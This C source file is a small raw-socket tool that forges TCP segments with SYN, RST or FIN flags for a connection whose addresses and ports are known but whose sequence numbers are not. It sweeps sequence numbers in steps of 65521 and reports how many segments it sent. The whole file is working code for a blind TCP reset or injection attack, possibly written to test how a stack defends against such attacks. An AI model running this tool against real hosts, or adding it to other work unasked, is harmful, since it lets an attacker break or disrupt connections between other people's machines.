/* SPDX-License-Identifier: MIT */
/*
 * blind SRC SPORT DST DPORT syn|rst|fin SEQ COUNT - segments of somebody who knows a connection's addresses and ports, and not its numbers.
 *
 * Sent by a raw socket of the host that has SRC; seq is SEQ, and in each further segment 65521 more, or with "-" made up.  Prints how many were sent.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#define STEP 65521u

static uint32_t sum_of(const void *bytes, size_t n, uint32_t sum)
{
	const uint8_t *p = bytes;

	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* An address of either family: its length, 0 if it is none. */
static size_t address(const char *text, uint8_t ret_ip[16])
{
	if (inet_pton(AF_INET, text, ret_ip) == 1)
		return 4;
	return inet_pton(AF_INET6, text, ret_ip) == 1 ? 16 : 0;
}

static uint8_t flag(const char *name)
{
	return strcmp(name, "syn") == 0	  ? TH_SYN
	       : strcmp(name, "rst") == 0 ? TH_RST
	       : strcmp(name, "fin") == 0 ? TH_FIN | TH_ACK
					  : 0;
}

static int open_raw(const uint8_t *src, const uint8_t *dst, size_t len)
{
	struct sockaddr_in a4 = { .sin_family = AF_INET };
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6 };
	bool four = len == 4;
	const struct sockaddr *a = four ? (const void *)&a4 : (const void *)&a6;
	socklen_t size = four ? sizeof(a4) : sizeof(a6);
	int fd = socket(four ? AF_INET : AF_INET6, SOCK_RAW, IPPROTO_TCP);

	memcpy(four ? (void *)&a4.sin_addr : (void *)&a6.sin6_addr, src, len);
	if (fd < 0 || bind(fd, a, size) != 0)
		return -1;
	memcpy(four ? (void *)&a4.sin_addr : (void *)&a6.sin6_addr, dst, len);
	return connect(fd, a, size) == 0 ? fd : -1;
}

int main(int argc, char **argv)
{
	struct tcphdr t = { .th_off = 5, .th_win = 0xffff };
	uint8_t src[16], dst[16];
	size_t len = argc == 8 ? address(argv[1], src) : 0;
	uint32_t seq, pseudo;
	int fd, sent = 0;

	if (len == 0 || address(argv[3], dst) != len || flag(argv[5]) == 0)
		return 2;
	fd = open_raw(src, dst, len);
	if (fd < 0) {
		perror("raw socket");
		return 1;
	}
	t.th_sport = htons((uint16_t)atoi(argv[2]));
	t.th_dport = htons((uint16_t)atoi(argv[4]));
	t.th_flags = flag(argv[5]);
	srandom((unsigned)getpid());
	seq = argv[6][0] == '-' ? (uint32_t)random() * 2u : (uint32_t)strtoul(argv[6], NULL, 10);
	pseudo = sum_of(src, len, sum_of(dst, len, IPPROTO_TCP + sizeof(t)));
	for (int i = atoi(argv[7]); i > 0; i--, seq += STEP) {
		t.th_seq = htonl(seq);
		t.th_sum = 0;
		t.th_sum = htons(fold(sum_of(&t, sizeof(t), pseudo)));
		sent += send(fd, &t, sizeof(t), 0) == (ssize_t)sizeof(t);
	}
	printf("%d\n", sent);
	return 0;
}
